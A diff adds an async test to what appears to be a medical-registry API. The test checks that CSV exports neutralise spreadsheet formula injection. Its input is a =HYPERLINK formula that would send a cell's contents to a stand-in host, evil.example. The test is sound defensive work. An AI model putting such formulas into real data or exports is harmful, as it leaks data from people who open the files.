@@ -149,3 +149,34 @@ async def test_the_reimbursed_registries_are_listed(stack: Stack) -> None:
     assert r.status_code == 200, r.text
     assert [d["dcd_code"] for d in r.json()] == ["PACEMAKER"]
     assert r.json()[0]["labels"]["en"] == "Pacemaker implant"
+
+
+async def test_an_export_cell_that_would_be_a_formula_is_neutralised(stack: Stack) -> None:
+    headers = await stack.headers(MANAGER)
+    reg = await submit(stack, implant(IDC_PAT="", TX_PAT_LAST_NAME="Claes", TX_PAT_FIRST_NAME="Bo"))
+    message = await message_in(stack, reg["id"], "INVALID")
+    reason = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    r = await stack.client.post(
+        f"/api/v1/nippin/{ORG}/messages/{message['id']}/archive", json={"reason": reason}, headers=headers
+    )
+    assert r.status_code == 200, r.text
+    assert (await stack.client.post(f"/api/v1/nippin/{ORG}/reports", headers=headers)).status_code == 201
+    day = (await _records(stack))[reg["id"]]["implant_date"]
+    r = await stack.client.post(
+        f"/api/v1/nippin/{ORG}/exports",
+        json={"dcd_code": "PACEMAKER", "date_from": day, "date_to": day},
+        headers=headers,
+    )
+    export_id = r.json()["id"]
+
+    async def ready() -> dict[str, object] | None:
+        got = (await stack.client.get(f"/api/v1/nippin/{ORG}/exports/{export_id}", headers=headers)).json()
+        return got if got["state"] == "ready" else None
+
+    done = await until(ready, stack=stack)
+    text = (await stack.client.get(str(done["download"]), headers=headers)).text
+    row = next(
+        r for r in csv.DictReader(io.StringIO(text), delimiter=";") if r["message_id"] == message["id"]
+    )
+    assert row["result"] == "invalid" and row["nippin_status"] == "ARCHIVED"
+    assert row["reason"] == "'" + reason
